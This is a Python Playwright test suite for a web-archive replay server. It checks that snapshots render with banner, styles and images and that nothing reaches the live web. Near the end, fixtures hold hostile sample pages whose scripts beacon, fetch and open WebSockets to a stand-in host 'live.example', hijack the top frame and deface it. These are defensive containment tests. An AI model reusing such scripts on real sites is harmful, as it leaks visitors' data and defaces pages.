"""Snapshots in a real browser: what a reader sees, and what never leaves the archive."""

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Frame, Page, Request, Response, sync_playwright
from playwright.sync_api import Error as PlaywrightError

import marsham
from tests.builders import response, warc
from tests.marsham.conftest import serving

LANDING = "http://www.homeoffice.example/crime/partnerships/"
ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class LiveWeb:
    """Stands for every host there is: it hears whatever the browser sends out."""

    def __init__(self) -> None:
        self.asked: list[bytes] = []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):  # closed when the tests are over
            while True:
                connection, _ = self.listener.accept()
                with connection:
                    connection.settimeout(2)
                    self.asked.append(connection.recv(1000))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")


@pytest.fixture(scope="module")
def live_server() -> Iterator[LiveWeb]:
    live = LiveWeb()
    yield live
    live.listener.shutdown(socket.SHUT_RDWR)
    live.listener.close()


@pytest.fixture
def live_web(live_server: LiveWeb) -> LiveWeb:
    live_server.asked.clear()
    return live_server


@pytest.fixture(scope="module")
def browser(chromium: str, live_server: LiveWeb) -> Iterator[Browser]:
    everywhere = f"--host-resolver-rules=MAP *.example 127.0.0.1:{live_server.port}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium, args=[*ARGUMENTS, everywhere]
        )
        yield browser
        browser.close()


@dataclass
class Visit:
    """A page opened, and every request made while it was."""

    page: Page
    requests: list[str] = field(default_factory=list)
    documents: int = 0  # how many of them load a page, not a part of one or an icon
    failures: list[str] = field(default_factory=list)

    def note_request(self, request: Request) -> None:
        self.requests.append(request.url)
        self.documents += request.is_navigation_request()

    def note_response(self, answer: Response) -> None:
        if answer.status >= 400:
            self.failures.append(f"{answer.status} {answer.url}")

    def frame(self) -> Frame:
        for _ in range(100):  # it comes a moment after the page it stands in
            if len(self.page.frames) > 1:
                break
            self.page.wait_for_timeout(100)
        return self.page.frames[1]


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    context = browser.new_context(viewport={"width": 1200, "height": 1000})
    visit = Visit(context.new_page())
    visit.page.on("request", visit.note_request)
    visit.page.on("response", visit.note_response)
    yield visit
    context.close()


def in_archive(url: str, server: str) -> bool:
    """Whether an address is the server's, on the origin of our own pages or of a site."""
    parts = urlsplit(url)
    local = re.fullmatch(r"127\.0\.0\.1|(h-[a-z2-7]{12}\.)?localhost", parts.hostname or "")
    return local is not None and parts.port == urlsplit(server).port


@pytest.mark.parametrize("year", ["2009", "2011", "2013"])
def test_a_snapshot_shows_banner_styles_and_images_and_nothing_leaves_the_archive(
    year: str, server: str, visit: Visit
) -> None:
    visit.page.goto(f"{server}/web/{year}/{LANDING}", wait_until="networkidle")
    assert visit.page.locator("section.banner").is_visible()
    frame = visit.frame()
    assert frame.locator("h1").first.is_visible()
    images = frame.eval_on_selector_all("img", "all => all.map(one => one.naturalWidth)")
    assert images
    assert all(width > 0 for width in images)
    sheets = [url for url in visit.requests if "cs_/" in url]
    assert sheets
    unstyled = '"Times New Roman"'  # what the browser takes when no style sheet arrives
    assert frame.evaluate("getComputedStyle(document.body).fontFamily") != unstyled
    assert [url for url in visit.requests if not in_archive(url, server)] == []
    assert visit.failures == []
    assert visit.page.context.cookies() == []


def test_a_link_of_the_page_leads_to_the_next_snapshot_with_its_banner(
    server: str, visit: Visit
) -> None:
    visit.page.goto(f"{server}/web/2011/{LANDING}", wait_until="networkidle")
    visit.frame().locator("a", has_text="West Midlands").first.click()
    visit.page.wait_for_url("**/directory/west-midlands/")
    assert visit.page.locator("section.banner").is_visible()
    assert visit.page.url.startswith(f"{server}/web/20110509")


HOST = "http://www.homeoffice.example"
LONG = b"""<h1>Contacts</h1><a id=other href="%s/contacts/#end">by its whole address</a>
<p style="margin-top: 3000px" id=post>Post</p><p style="margin-top: 3000px" id=end>End</p>"""
LINKS = b"""<a id=page href="/contacts/#post">page</a><a id=moved href="/moved/#post">moved</a>"""


@pytest.fixture(scope="module")
def long_pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("long")
    records = [
        response(LINKS, url=f"{HOST}/", date="2011-05-09T10:16:21Z"),
        response(LONG % HOST.encode(), url=f"{HOST}/contacts/", date="2011-05-11T00:00:00Z"),
        response(
            b"",
            url=f"{HOST}/moved/",
            status="301 Moved Permanently",
            head=[("Location", "/contacts/")],
        ),
    ]
    (folder / "a.warc.gz").write_bytes(warc(*records))
    with marsham.create_archive(folder / "archive") as archive:
        marsham.ingest(archive, [folder / "a.warc.gz"])
        yield from serving(archive)


def place_in_frame(visit: Visit) -> float:
    """How far down the archived page is scrolled, as soon as it is somewhere below its top."""
    for _ in range(50):
        with suppress(PlaywrightError):  # it is just being led elsewhere
            place: float = visit.frame().evaluate("window.scrollY")
            if place:
                return place
        visit.page.wait_for_timeout(100)
    return 0


def stays_in_frame(visit: Visit) -> bool:
    """Whether no page is loaded into the frame any more, which would begin at its top again."""
    loaded = visit.documents
    visit.page.wait_for_timeout(500)
    return visit.documents == loaded and place_in_frame(visit) > 0


@pytest.mark.parametrize("link", ["#page", "#moved"])
def test_a_link_into_a_page_leads_to_its_place_there(
    link: str, long_pages: str, visit: Visit
) -> None:
    visit.page.goto(f"{long_pages}/web/2011/{HOST}/", wait_until="networkidle")
    visit.frame().locator(link).click()
    visit.page.wait_for_url("**/contacts/#post")
    assert 2500 < place_in_frame(visit) < 4000
    assert stays_in_frame(visit)
    assert visit.page.evaluate("window.scrollY") == 0  # the banner stays in view
    assert visit.failures == []


def test_a_link_to_another_place_of_the_page_leads_there(long_pages: str, visit: Visit) -> None:
    visit.page.goto(f"{long_pages}/web/2011/{HOST}/contacts/", wait_until="networkidle")
    visit.frame().locator("#other").click()
    visit.page.wait_for_url("**/contacts/#end")
    assert place_in_frame(visit) > 4000
    assert stays_in_frame(visit)


def test_no_script_but_ours_runs_in_our_own_pages(long_pages: str, visit: Visit) -> None:
    visit.page.goto(f"{long_pages}/web/2011/{HOST}/contacts/", wait_until="networkidle")
    visit.page.evaluate(
        """() => { const script = document.createElement("script");
        script.textContent = "document.title = 'ran'"; document.body.append(script); }"""
    )
    assert visit.page.title() != "ran"


def test_the_look_up_works_by_keyboard_alone(server: str, visit: Visit) -> None:
    visit.page.goto(server)
    visit.page.keyboard.press("Tab")
    assert visit.page.evaluate("document.activeElement.textContent") == "Skip to main content"
    visit.page.locator("#url").focus()
    visit.page.keyboard.type(LANDING)
    visit.page.keyboard.press("Tab")
    visit.page.keyboard.type("29/05/2011")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_url("**/web/20110529000000/**")


def test_pages_of_our_own_fit_a_narrow_screen(server: str, visit: Visit) -> None:
    visit.page.set_viewport_size({"width": 320, "height": 640})
    for path in ("/", "/sites/www.homeoffice.example", f"/web/*/{LANDING}", f"/web/2011/{LANDING}"):
        visit.page.goto(server + path)
        width = visit.page.evaluate("document.documentElement.scrollWidth")
        assert width <= 320, path


HOSTILE = b"""<html><body><p id=p>Hostile</p><script>
document.title = 'ran';
new Image().src = 'http://live.example/leak.png';
fetch('http://live.example/leak').catch(() => {});
navigator.sendBeacon && navigator.sendBeacon('http://live.example/beacon', 'x');
try { new WebSocket('ws://live.example/'); } catch (e) {}
try { top.location = 'http://live.example/moved'; } catch (e) {}
try { top.document.body.innerHTML = 'defaced'; } catch (e) {}
try { document.cookie = 'stay=1'; } catch (e) {}
</script><link rel=stylesheet href="http://live.example/leak.css"></body></html>"""


@pytest.mark.parametrize("scripts", [False, True], ids=["without scripts", "with scripts"])
def test_a_hostile_page_reaches_neither_the_live_web_nor_the_banner(
    scripts: bool, visit: Visit, live_web: LiveWeb, tmp_path: Path
) -> None:
    (tmp_path / "evil.warc.gz").write_bytes(warc(response(HOSTILE, url="http://evil.example/")))
    settings = marsham.Settings(scripts=scripts)
    with marsham.create_archive(tmp_path / "archive", settings) as archive:
        marsham.ingest(archive, [tmp_path / "evil.warc.gz"])
        for server in serving(archive):
            visit.page.goto(f"{server}/web/2011/http://evil.example/", wait_until="networkidle")
            assert (visit.frame().title() == "ran") is scripts
            assert visit.frame().locator("#p").is_visible()
            assert visit.page.locator("section.banner").is_visible()
            assert visit.page.url.startswith(server)
            assert visit.page.context.cookies() == []
    assert live_web.asked == []


def test_no_click_leads_from_a_snapshot_to_the_live_web(
    visit: Visit, live_web: LiveWeb, tmp_path: Path
) -> None:
    page = b"""<a id=link href="http://live.example/link">link</a>
    <p id=text onclick="top.location='http://live.example/click'">text</p>
    <script>document.getElementById('link').href = 'http://live.example/set';</script>
    <form action="http://live.example/form"><button id=button>send</button></form>"""
    (tmp_path / "evil.warc.gz").write_bytes(warc(response(page, url="http://evil.example/")))
    with marsham.create_archive(tmp_path / "archive") as archive:
        marsham.ingest(archive, [tmp_path / "evil.warc.gz"])
        for server in serving(archive):
            for place in ("#link", "#text", "#button"):
                visit.page.goto(f"{server}/web/2011/http://evil.example/", wait_until="networkidle")
                visit.frame().locator(place).click()
                visit.page.wait_for_timeout(300)
                assert visit.page.url.startswith(server)
    assert live_web.asked == []


def test_the_live_web_of_these_tests_hears_what_is_sent_to_it(
    visit: Visit, live_web: LiveWeb
) -> None:
    visit.page.goto("http://live.example/")
    assert live_web.asked[0].startswith(b"GET / HTTP/1.1")
